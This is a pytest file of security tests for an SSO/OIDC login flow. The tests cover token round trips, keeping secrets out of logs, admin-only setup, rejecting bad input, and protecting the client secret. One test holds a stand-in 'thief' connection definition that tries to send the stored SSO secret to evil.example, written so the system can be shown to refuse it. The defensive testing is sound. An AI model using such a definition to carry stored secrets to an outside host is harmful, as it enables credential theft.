"""Single sign-on over HTTP: set up, the way there and back, and a real provider (npm's ``oidc-provider``)."""

from __future__ import annotations

import pytest

from sluicegate.base.errors import Denied, Invalid
from sluicegate.base.principal import Role
from sluicegate.base.settings import Grant
from tests.fixtures.identity import real_provider
from tests.fixtures.idp import ask, provider
from tests.fixtures.server import Place


@pytest.fixture
def idp():
    with provider() as held:
        yield held


@pytest.fixture
def home(tmp_path):
    made = Place(tmp_path / "home", egress=(Grant(host="localhost"), Grant(host="127.0.0.1"))).settle()
    yield made
    made.close()


def post(home, path, body, token=None):
    return home.request("POST", f"/api/v1/sso/{path}", token, json=body)


def redirect(home):
    return f"https://localhost/sso/callback/{home.tenants['north']}"


@pytest.mark.slow
@pytest.mark.security
@pytest.mark.req("SEC-A13", "SEC-A12")
def test_a_real_provider_lets_people_in_and_asks_them_anew(home, tmp_path):
    groups = {"ann": ["eng", "all"], "bob": ["all"]}
    with real_provider(tmp_path / "provider", [redirect(home)], groups) as real:
        admin = home.token(Role.ADMINISTRATOR)
        shown = home.request("PUT", "/api/v1/sso", admin, json=real.ask()).json()
        assert shown["redirect"] == redirect(home)
        told = post(home, "test", {}, admin).json()
        assert told["ok"], told
        begun = post(home, "begin", {"tenant": "north"})
        assert begun.status_code == 200
        back = real.sign_in(begun.json()["url"], "ann")
        assert back["iss"] == real.issuer
        tokens = post(home, "finish", back).json()
        assert tokens["standing"] == "signed in"
        me = home.request("GET", "/api/v1/session/whoami", tokens["access"]).json()
        assert (me["email"], me["name"], me["role"], me["tenant_name"]) == (
            "ann@corp.example",
            "Ann",
            "editor",
            "north",
        )
        assert post(home, "finish", back).json()["code"] == "unauthenticated"

        url = post(home, "prove", {}, tokens["access"]).json()["url"]
        assert post(home, "confirm", real.sign_in(url, "ann"), tokens["access"]).status_code == 200
        url = post(home, "prove", {}, tokens["access"]).json()["url"]
        assert post(home, "confirm", real.sign_in(url, "bob"), tokens["access"]).status_code == 422

        url = post(home, "begin", {"tenant": "north"}).json()["url"]
        assert post(home, "finish", real.sign_in(url, "bob")).status_code == 401
        home.request("PUT", "/api/v1/sso", home.token(Role.ADMINISTRATOR), json=real.ask(secret="another"))
        told = post(home, "test", {}, home.token(Role.ADMINISTRATOR)).json()
        assert [each["what"] for each in told["items"] if not each["ok"]] == ["client"]


@pytest.mark.security
@pytest.mark.req("SEC-A13")
def test_what_came_back_stands_in_no_log(home, idp, tmp_path, capsys):
    logged = Place(tmp_path / "logged", egress=(Grant(host="127.0.0.1"),), server={"access_log": True}).settle()
    try:
        logged.call("sso.set", ask(idp), logged.token(Role.ADMINISTRATOR))
        back = idp.visit(post(logged, "begin", {"tenant": "north"}).json()["url"])
        page = logged.request(
            "GET", f"{redirect(logged).removeprefix('https://localhost')}?code={back['code']}&state={back['state']}"
        )
        assert page.headers["content-type"].startswith("text/html")
        assert page.headers["cache-control"] == "no-store"
        assert page.headers["referrer-policy"] == "no-referrer"
        assert post(logged, "finish", back).status_code == 200
    finally:
        logged.close()
    said = "".join(capsys.readouterr())
    assert "sso.finish" in said
    for text in (back["code"], back["state"], idp.asked[0]["nonce"]):
        assert text not in said


@pytest.mark.security
@pytest.mark.req("SEC-A12", "SEC-Z08")
def test_only_administrators_set_it_up(home, idp):
    for role in (Role.EDITOR, Role.VIEWER, Role.API_USER):
        with pytest.raises(Denied):
            home.call("sso.set", ask(idp), home.token(role))
    shown = home.call("sso.set", ask(idp), home.token(Role.ADMINISTRATOR))
    assert (shown.has_secret, shown.required, shown.secret_cleared) == (True, False, False)
    assert "50%+" not in home.call("sso.get", {}, home.token(Role.ADMINISTRATOR)).model_dump_json()


@pytest.mark.security
@pytest.mark.req("SEC-A13")
def test_what_does_not_fit_is_refused_whole(home, idp):
    token = home.token(Role.ADMINISTRATOR)
    for more in ({"issuer": "http://id.example"}, {"domains": ["*"]}, {"trust_email": True}, {"secret": "a\0b"}, {"scopes": ["a b"]},
                 {"roles": [{"group": "", "role": "viewer"}]}, {"no_such": 1}, {"client_id": ""}):  # fmt: skip
        with pytest.raises(Invalid):
            home.call("sso.set", ask(idp, **more), token)
    assert home.app.services.system.sso().provider(home.tenants["north"]) is None
    assert home.scope("north").secrets().list() == []


@pytest.mark.security
@pytest.mark.req("SEC-A07")
def test_the_identity_routes_answer_bad_input_without_a_trace_of_it(home, idp):
    home.call("sso.set", ask(idp), home.token(Role.ADMINISTRATOR))
    fine = {"at": home.tenants["north"], "code": "canary-code", "state": "canary-state"}
    for body in (
        fine,
        {**fine, "code": "canary" * 2000},
        {**fine, "state": "canary" * 100},
        {**fine, "at": "canary"},
        {**fine, "iss": ["canary"]},
    ):
        answer = post(home, "finish", body)
        assert 400 <= answer.status_code < 500
        assert "canary" not in answer.text
    assert "canary" not in str(home.records()) + str(home.records(None))


@pytest.mark.security
@pytest.mark.req("SEC-V08")
def test_no_connection_takes_the_client_secret_elsewhere(home, idp):
    home.call("sso.set", ask(idp), home.token(Role.ADMINISTRATOR))
    thief = "kind: connection\nname: thief\ntype: postgres\nhost: evil.example\ndatabase: d\nuser: u\npassword: { secret: sluicegate-sso }\n"
    token = home.token(Role.EDITOR)
    with pytest.raises(Invalid):
        home.call("definition.apply", {"source": thief}, token)
    with pytest.raises(Invalid):
        home.call("secret.set", {"name": "sluicegate-sso", "value": "mine"}, token)
    with pytest.raises(Invalid):
        home.call("secret.delete", {"name": "sluicegate-sso"}, token)
    assert home.call("sso.get", {}, home.token(Role.ADMINISTRATOR)).has_secret
